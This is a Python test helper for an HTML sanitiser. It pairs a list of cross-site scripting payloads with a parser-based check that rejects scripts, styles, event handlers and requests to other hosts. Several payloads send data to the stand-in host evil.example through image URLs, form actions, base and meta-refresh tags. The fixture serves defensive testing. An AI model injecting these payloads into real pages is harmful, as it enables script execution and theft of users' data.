"""What a browser could run in a piece of HTML."""

from __future__ import annotations

from html.parser import HTMLParser

ATTACKS = [
    "<script>hack()</script>",
    "<img src=x onerror=hack()>",
    "<svg onload=hack()><script>hack()</script></svg>",
    "<a href='javascript:hack()'>x</a>",
    "<iframe srcdoc='<script>hack()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hack()>",
    "<table><tr><td onclick=hack() style='background:url(//evil.example)'>1</td></tr></table>",
    "<form action=//evil.example><input name=x><button data-act=approve data-on=stolen>Yes</button></form>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=hack()>x</details><marquee onstart=hack()>",
    "[x](javascript:hack()) ![x](https://evil.example/?secret) <https://evil.example> [y](data:text/html,hack)",
    "</code></pre><script>hack()</script>",
    "```html\n<script>hack()</script>\n```",
    '"><script>hack()</script>',
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
]


class Inspector(HTMLParser):
    """All tags with their attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_harmless(html: str, *, links: tuple[str, ...] = ()) -> None:
    """No script, no style, no request to another host, no address but a link's. `links`: where ours may lead."""
    for tag, attributes in Inspector(html).found:
        assert tag not in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "link",
            "meta",
            "base",
            "math",
            "template",
        ), html
        assert not any(name.startswith("on") or name in ("style", "srcdoc", "action") for name in attributes), html
        for name in {"href", "src", "xlink:href"} & attributes.keys():
            address = attributes[name] or ""
            assert address.startswith(("https:", "http:", "mailto:", "#", "/media/", "/c/", "data:image/", *links)), (
                html
            )
            assert name != "src" or address.startswith(("/media/", "data:image/")), (
                "a picture of another host is asked for"
            )
